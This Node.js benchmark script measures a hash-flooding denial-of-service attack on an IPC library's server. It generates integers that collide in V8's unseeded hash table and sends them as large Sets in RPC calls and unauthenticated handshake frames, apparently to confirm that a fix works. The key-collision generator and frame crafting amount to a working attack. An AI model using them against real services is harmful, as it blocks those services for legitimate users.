#!/usr/bin/env node
'use strict';
// Hash flooding (#11 item 2), measured: V8 hashes numbers without a seed, so a peer can send a Set whose integers
// all fall in one bucket of the engine's hash table. Three figures:
//   1. decoding a ~235 KB Set of such integers, in this process;
//   2. a call whose ~344 KB argument is such a Set, from a client to a server in another process: how long the
//      call takes to settle (the server's event loop is blocked for as long as it decodes);
//   3. 30 hellos of at most 64 KiB with such a Set as context, from unauthenticated sockets, against a server
//      without a token, while a legitimate client calls the server in a loop: that client's p50/p99.
//
//   node bench/attacks/hash-flooding.js [--dist DIR]
//
// DIR is the built package to attack (default: this repository's dist/); give another tree's dist/ to measure a
// "before". Not a suite of bench/run.js: it measures an attack, not a speed goal, and prints its own table.

const fs = require('fs');
const net = require('net');
const os = require('os');
const path = require('path');
const { forkWorker, killAll } = require('../lib/child');
const { percentile, median } = require('../lib/stats');

const distArg = process.argv.indexOf('--dist');
const DIST = path.resolve(distArg > 0 ? process.argv[distArg + 1] : path.join(__dirname, '..', '..', 'dist'));
const fdpipe = require(DIST);

const SET = 0xd2;
const HELLO = 0xf0;

// ---------------------------------------------------------------------------------------------------- the keys

const inverse32 = (a) => {
  let x = a;
  for (let i = 0; i < 5; i++) x = Math.imul(x, 2 - Math.imul(a, x));
  return x >>> 0;
};
/** The 32-bit integer V8's integer hash maps to `hash`. */
function keyFor(hash) {
  let h = hash >>> 0;
  h = (h ^ (h >>> 16)) >>> 0;
  h = Math.imul(h, inverse32(2057)) >>> 0;
  h = (h ^ (h >>> 4) ^ (h >>> 8) ^ (h >>> 12) ^ (h >>> 16) ^ (h >>> 20) ^ (h >>> 24) ^ (h >>> 28)) >>> 0;
  h = Math.imul(h, inverse32(5)) >>> 0;
  h = (h ^ (h >>> 12) ^ (h >>> 24)) >>> 0;
  return Math.imul((h + 1) >>> 0, inverse32(0x7fff)) | 0;
}
const collidingKeys = (count) => Array.from({ length: count }, (_, i) => keyFor(i << 16));

const codec = new fdpipe.ValueCodec();
function encode(value) {
  const buffer = new fdpipe.Uint8ArrayWriteBuffer();
  codec.encode(buffer, value);
  return Buffer.from(buffer.getCurrentContents());
}
function varint(value) {
  const out = [];
  for (; value >= 0x80; value = Math.floor(value / 0x80)) out.push((value % 0x80) | 0x80);
  out.push(value);
  return out;
}
/** The encoded Set, put together from the encoded array of its keys: building the Set here would be quadratic. */
function setBytes(count) {
  const items = encode(collidingKeys(count)).subarray(1 + varint(count).length);
  return Buffer.concat([Buffer.from([SET, ...varint(count)]), items]);
}
/** How many keys make a Set of about `bytes` bytes. */
function keysForBytes(bytes) {
  let count = Math.floor(bytes / 6);
  while (setBytes(count).length > bytes) count -= 64;
  return count;
}

/** A value the attacker's codec writes as the bytes given. */
class RawValue {
  constructor(bytes) {
    this.bytes = bytes;
  }
}
class RawCodec extends fdpipe.ValueCodec {
  write(buffer, value, depth) {
    if (value instanceof RawValue) buffer.writeRaw(value.bytes);
    else super.write(buffer, value, depth);
  }
}

// ---------------------------------------------------------------------------------------------------- the server

if (process.argv[2] === 'server') {
  const server = new fdpipe.IPCServer({ handshakeTimeout: 60000 });
  server.onError(() => {}); // refused hellos are the point
  server.registerChannel('svc', {
    call: async (_ctx, command, arg) => (command === 'size' ? arg.size : 'pong'),
    listen: () => {
      throw new Error('no events');
    },
  });
  server.listen(process.argv[3]).then(() => process.send('ready'));
  process.on('disconnect', () => process.exit(0));
  return;
}

function startServer(socketPath) {
  const child = forkWorker(__filename, ['server', socketPath, '--dist', DIST]);
  return new Promise((resolve, reject) => {
    child.once('message', () => resolve(child));
    child.once('exit', (code) => reject(new Error(`server exited with ${code}`)));
  });
}

const ms = (ns) => Number(ns) / 1e6;
const now = () => process.hrtime.bigint();

// ---------------------------------------------------------------------------------------------------- 1: decode

function decodeSet() {
  const count = keysForBytes(235 * 1024);
  const bytes = setBytes(count);
  const times = [];
  let outcome = '';
  for (let round = 0; round < 7; round++) {
    const start = now();
    try {
      outcome = `decoded (${codec.decode(new fdpipe.Uint8ArrayReadBuffer(bytes)).size} entries)`;
    } catch (error) {
      outcome = `${error.name}`;
    }
    times.push(ms(now() - start));
  }
  return { what: `decode a ${(bytes.length / 1024).toFixed(0)} KB Set of ${count} colliding integers`, ms: median(times), outcome };
}

// ---------------------------------------------------------------------------------------------------- 2: a call

async function floodedCall(socketPath) {
  const client = await fdpipe.IPCClient.connect(socketPath, 'caller', { rpc: { codec: new RawCodec() } });
  const svc = client.getChannel('svc');
  await svc.call('ping');
  const count = keysForBytes(344 * 1024);
  const arg = new RawValue(setBytes(count));
  const start = now();
  let outcome;
  try {
    outcome = `answered ${await svc.call('size', arg)}`;
  } catch (error) {
    outcome = `${error.name} reply`;
  }
  const took = ms(now() - start);
  const pingStart = now();
  await svc.call('ping');
  const ping = ms(now() - pingStart);
  client.dispose();
  return {
    what: `a call with a ${(arg.bytes.length / 1024).toFixed(0)} KB colliding Set argument settles`,
    ms: took,
    outcome: `${outcome}; next call ${ping.toFixed(1)} ms`,
  };
}

// ---------------------------------------------------------------------------------------------------- 3: hellos

function helloFrame() {
  const limit = 64 * 1024;
  const head = Buffer.concat([Buffer.from([HELLO]), encodeString('fdpipe/3'), encodeString('')]);
  let count = keysForBytes(limit - head.length);
  let body = Buffer.concat([head, setBytes(count)]);
  while (body.length > limit) body = Buffer.concat([head, setBytes((count -= 16))]);
  const header = Buffer.alloc(4);
  header.writeUInt32BE(body.length);
  return { frame: Buffer.concat([header, body]), size: body.length };
}
function encodeString(text) {
  const utf8 = Buffer.from(text);
  return Buffer.concat([Buffer.from(varint(utf8.length)), utf8]);
}

/** A legitimate client's calls, one after another, for as long as `during` runs. */
async function latencies(svc, during) {
  const samples = [];
  let done = false;
  const attack = during().finally(() => (done = true));
  while (!done) {
    const start = now();
    await svc.call('ping');
    samples.push(ms(now() - start));
  }
  await attack;
  return samples;
}

async function hellos(socketPath) {
  const client = await fdpipe.IPCClient.connect(socketPath, 'legit');
  const svc = client.getChannel('svc');
  for (let i = 0; i < 200; i++) await svc.call('ping');
  const quiet = await latencies(svc, () => new Promise((resolve) => setTimeout(resolve, 500)));
  const { frame, size } = helloFrame();
  const sockets = [];
  const attacked = await latencies(svc, async () => {
    await new Promise((resolve) => setTimeout(resolve, 50));
    await Promise.all(
      Array.from({ length: 30 }, () => {
        const socket = net.createConnection(socketPath);
        sockets.push(socket);
        socket.on('error', () => {});
        socket.write(frame);
        // The server answers (refuses, or welcomes) and closes, or keeps it: either way it has decoded the hello.
        return new Promise((resolve) => {
          socket.once('data', resolve);
          socket.once('close', resolve);
        });
      }),
    );
    await new Promise((resolve) => setTimeout(resolve, 50));
  });
  for (const socket of sockets) socket.destroy();
  client.dispose();
  const row = (samples) => `p50 ${percentile(samples, 50).toFixed(2)} ms, p99 ${percentile(samples, 99).toFixed(2)} ms, max ${Math.max(...samples).toFixed(1)} ms (${samples.length} calls)`;
  return [
    { what: 'legitimate client, no attack', ms: percentile(quiet, 99), outcome: row(quiet) },
    { what: `legitimate client, 30 unauthenticated hellos of ${(size / 1024).toFixed(1)} KiB`, ms: percentile(attacked, 99), outcome: row(attacked) },
  ];
}

async function main() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fdpipe-flood-'));
  const socketPath = path.join(dir, 's.sock');
  const rows = [decodeSet()];
  try {
    await startServer(socketPath);
    rows.push(await floodedCall(socketPath));
    rows.push(...(await hellos(socketPath)));
  } finally {
    killAll();
    fs.rmSync(dir, { recursive: true, force: true });
  }
  console.log(`hash flooding against ${DIST}`);
  for (const row of rows) console.log(`  ${row.what.padEnd(72)} ${row.ms.toFixed(1).padStart(8)} ms  ${row.outcome}`);
}

main().catch((error) => {
  console.error(error);
  killAll();
  process.exit(1);
});
